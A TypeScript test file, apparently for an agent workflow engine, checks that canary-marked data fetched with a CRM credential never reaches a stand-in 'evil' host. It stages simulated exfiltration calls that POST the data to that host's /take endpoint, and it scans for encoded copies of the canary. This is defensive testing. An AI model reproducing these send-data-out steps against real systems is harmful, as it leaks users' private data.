import fc from 'fast-check';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { type LeakyWorkflow, leakyWorkflow, without } from '../../packages/core/test-support/leaky-workflow.ts';
import type { JsonObject } from '../../packages/protocols/src/json.ts';
import { call } from './call.ts';
import { codingsOf } from './canary-scan.ts';
import { CountingApi, send } from './counting-api.ts';
import { System } from './system.ts';
import { fresh, WorkflowCaller, workflowOf } from './workflow-caller.ts';

// Three hosts: one that answers callers with the key with a canary, one that anybody may read, and one that is to get
// nothing of the first.

const CANARY = 'canaryq7x3';
const [crm, open, evil] = [await CountingApi.start(), await CountingApi.start(), await CountingApi.start()];
crm.answers('GET /people', [
  { id: 1, name: `${CANARY} one` },
  { id: 2, name: `${CANARY} two` },
]);
crm.answers('GET /words', [`${CANARY} word`]);
crm.answers('POST /seen', { ok: true });
open.answers('GET /words', ['a', 'b']);
for (const method of ['GET', 'POST']) evil.answers(`${method} /take`, { id: 3, name: 'thanks' });

const system = await System.start({
  config: {
    gate: { allow: [crm.host, open.host, evil.host] },
    workflows: { max_operations: 100, max_api_calls: 1000 },
    apis: { crm: { base_url: crm.url }, open: { base_url: open.url } },
  },
});
afterAll(async () => {
  await system[Symbol.asyncDispose]();
  for (const api of [crm, open, evil]) await api[Symbol.asyncDispose]();
});
const { api_key: key } = await system.caller('ann-agent', {
  permissions: { operations: ['*'], apis: ['*'], credentials: ['*'] },
});
const ann = new WorkflowCaller(system, key);
const admin = (method: string, path: string, json: JsonObject) =>
  call(system.url, { method, path: `/admin/v1/${path}`, key: system.adminKey, json });
await admin('PUT', 'credentials/crm-key', { type: 'api-key', value: 'a-key-of-the-crm', hosts: [crm.host] });
// Only the APIs of an operator can be reached on this machine.
await admin('PUT', 'apis/evil', { base_url: evil.url });

beforeEach(() => {
  for (const api of [crm, open, evil]) api.requests.length = 0;
});

const secret: JsonObject = {
  ApiCall: {
    method: 'GET',
    url: `${crm.url}/people`,
    headers: { 'X-Key': { credentialRef: { id: 'crm-key' } } },
    outputPath: '/workflow/people',
  },
};
const post = (url: string, path: string): JsonObject => ({
  ApiCall: { method: 'POST', url, body: { path }, outputPath: '/workflow/sent' },
});
const LENIENT = { level: 'lenient', onError: 'continue' };

describe('data fetched with a credential', () => {
  test('reaches no host but those of the credential, whatever a workflow does with it', {
    timeout: 60_000,
  }, async () => {
    let refused = 0;
    const hosts = { from: crm.url, open: open.url, to: evil.url, credential: 'crm-key' };
    await fc.assert(
      fc.asyncProperty(leakyWorkflow(hosts), async (workflow) => {
        const sound = await soundPart(workflow);
        const result = await ann.execute(workflowOf(sound.operations, { order: sound.order }), LENIENT);
        refused += result.errors?.filter(({ message }) => message.includes('no rule allows that')).length ?? 0;
      }),
      { numRuns: 25 },
    );
    expect(refused).toBeGreaterThan(20);
    expect(evil.requests.length).toBeGreaterThan(20);
    expect(leaked()).toEqual([]);
  });

  test('is refused at validation where the workflow shows it, with both hosts and the way to allow it', async () => {
    const report = await ann.validate(workflowOf({ secret, out: post(`${evil.url}/take`, '/workflow/people') }));
    expect(report.valid).toBe(false);
    const [issue] = report.errors;
    expect(issue?.message).toContain(crm.host);
    expect(issue?.message).toContain(evil.host);
    expect(JSON.stringify(report)).toContain('accepts_data_from');
    const refused = await ann.post('execute', {
      workflow: workflowOf({ secret, out: post(`${evil.url}/take`, '/workflow/people') }),
    });
    expect(refused.status).toBe(403);
    expect(crm.requests).toEqual([]);
  });

  test('goes back to its own host, and data that no credential fetched goes anywhere', async () => {
    const result = await ann.execute(
      workflowOf({
        secret,
        back: post(`${crm.url}/seen`, '/workflow/people'),
        open: { ApiCall: { method: 'GET', url: `${open.url}/words`, outputPath: '/workflow/words' } },
        out: post(`${evil.url}/take`, '/workflow/words'),
      }),
    );
    expect(result.status).toBe('success');
    expect(evil.requests.map(({ body }) => body)).toEqual(['["a","b"]']);
  });

  test('is kept when the data is read from the cache, or was stored by an earlier execution', async () => {
    const keep = { StoreData: { inputPath: '/workflow/people', storage: 'localStorage', key: 'people' } };
    const file = { StoreData: { inputPath: '/workflow/people', storage: 'file', key: 'people-file' } };
    await ann.execute(workflowOf({ secret, keep, file }));
    await ann.execute(workflowOf({ secret }));
    // The answer is from the cache.
    expect(crm.requests.length).toBeLessThan(2);
    const result = await ann.execute(
      workflowOf({
        secret,
        cached: post(`${evil.url}/take`, '/workflow/people'),
        kept: post(`${evil.url}/take`, '/store/people'),
        filed: post(`${evil.url}/take`, '/store/people-file/0/name'),
      }),
      LENIENT,
    );
    expect(result.errors?.map(({ operationId, type }) => [operationId, type])).toEqual([
      ['cached', 'PermissionError'],
      ['kept', 'PermissionError'],
      ['filed', 'PermissionError'],
    ]);
    expect(evil.requests).toEqual([]);
  });

  test('is known again after a restart, when an earlier execution stored it', async () => {
    const keep = { StoreData: { inputPath: '/workflow/people', storage: 'localStorage', key: 'old-people' } };
    const file = { StoreData: { inputPath: '/workflow/people', storage: 'file', key: 'old-people-file' } };
    expect((await ann.execute(workflowOf({ secret, keep, file }))).status).toBe('success');
    await system.kill();
    await system.start();
    const result = await ann.execute(
      workflowOf({
        kept: post(`${evil.url}/take`, '/store/old-people'),
        filed: post(`${evil.url}/take`, '/store/old-people-file/0/name'),
        back: post(`${crm.url}/seen`, '/store/old-people'),
      }),
      LENIENT,
    );
    expect(result.errors?.map(({ operationId, type }) => [operationId, type])).toEqual([
      ['kept', 'PermissionError'],
      ['filed', 'PermissionError'],
    ]);
    expect(evil.requests).toEqual([]);
    expect(crm.requests.map(({ path }) => path)).toContain('/seen');
  });

  test('is known again after kill -9, although its credential is bound to more hosts by then', async () => {
    const id = fresh();
    let reached = () => {};
    const waits = new Promise<void>((resolve) => {
      reached = resolve;
    });
    let held = true;
    crm.behaviours.set('POST /seen', (_, response) => {
      reached();
      if (!held) send(response, 200, { ok: true });
    });
    const workflow = workflowOf(
      {
        secret,
        hold: {
          ApiCall: {
            ...(post(`${crm.url}/seen`, '/workflow/people')['ApiCall'] as JsonObject),
            method: 'POST',
            idempotencyKey: id,
          },
        },
        out: post(`${evil.url}/take`, '/workflow/people'),
      },
      { id },
    );
    const started = await ann.post('execute', { workflow, ...LENIENT }, { headers: { prefer: 'respond-async' } });
    expect(started.status).toBe(202);
    await waits;
    const credential = { type: 'api-key', value: 'a-key-of-the-crm' };
    await admin('PUT', 'credentials/crm-key', { ...credential, hosts: [crm.host, evil.host] });
    await system.kill();
    held = false;
    await system.start();
    const result = await ann.ended(id);
    await admin('PUT', 'credentials/crm-key', { ...credential, hosts: [crm.host] });
    expect(result.error).toMatchObject({ operationId: 'out', type: 'PermissionError' });
    expect(evil.requests).toEqual([]);
  });

  test('goes where the entry of an API accepts it, from that host alone', async () => {
    const out = { secret, out: post(`${evil.url}/take`, '/workflow/people') };
    const api = { base_url: evil.url };
    await admin('PUT', 'apis/evil', { ...api, accepts_data_from: [open.host] });
    expect((await ann.execute(workflowOf(out), LENIENT)).status).toBe('partial_success');
    const put = await admin('PUT', 'apis/evil', { ...api, accepts_data_from: [crm.host] });
    expect(await put.json()).toMatchObject({ accepts_data_from: [crm.host] });
    expect((await ann.execute(workflowOf(out))).status).toBe('success');
    expect(evil.requests.length).toBe(1);
    const wrong = await admin('PUT', 'apis/evil', { ...api, accepts_data_from: ['https://crm.example.com/'] });
    expect(wrong.status).toBe(400);
    expect(await wrong.text()).toContain('/accepts_data_from/0 must be host or host:port');
  });
});

/** What is left when everything that cannot run is taken out. */
async function soundPart(workflow: LeakyWorkflow): Promise<LeakyWorkflow> {
  const { operations, order } = workflow;
  const { valid, errors } = await ann.validate(workflowOf(operations, { order }), LENIENT);
  if (valid) return workflow;
  return soundPart(
    without(
      workflow,
      errors.map(({ operationId }) => operationId),
    ),
  );
}

/** Requests to the foreign host with the canary in them, as it is or as operations spell it. */
function leaked(): readonly unknown[] {
  const base64 = [0, 1, 2].map((skip) => Buffer.from(CANARY.slice(skip, skip + 6)).toString('base64'));
  const spellings = [...Object.values(codingsOf(CANARY)), ...base64, CANARY.toUpperCase()];
  return evil.requests.filter((request) => spellings.some((text) => JSON.stringify(request).includes(String(text))));
}

test('a credential that a workflow may not send is on record as refused, whether by its host or by its caller', async () => {
  const to = (url: string): string => workflowOf({ out: { ApiCall: { ...(secret['ApiCall'] as JsonObject), url } } });
  const permissions = { operations: ['*'], apis: ['*'], credentials: [] };
  const bob = new WorkflowCaller(system, (await system.caller('bob-agent', { permissions })).api_key);
  for (const [caller, url] of [[ann, evil.url] as const, [bob, crm.url] as const]) {
    expect((await caller.post('execute', { workflow: to(url) })).status).toBe(403);
  }
  const path = '/admin/v1/credentials/crm-key';
  const recorded = async () => JSON.parse(await (await call(system.url, { path, key: system.adminKey })).text());
  await expect
    .poll(async () => (await recorded()).uses.slice(0, 2))
    .toMatchObject([
      { caller: 'bob-agent', host: crm.host, purpose: 'out', outcome: 'refused' },
      { caller: 'ann-agent', host: evil.host, purpose: 'out', outcome: 'refused' },
    ]);
});
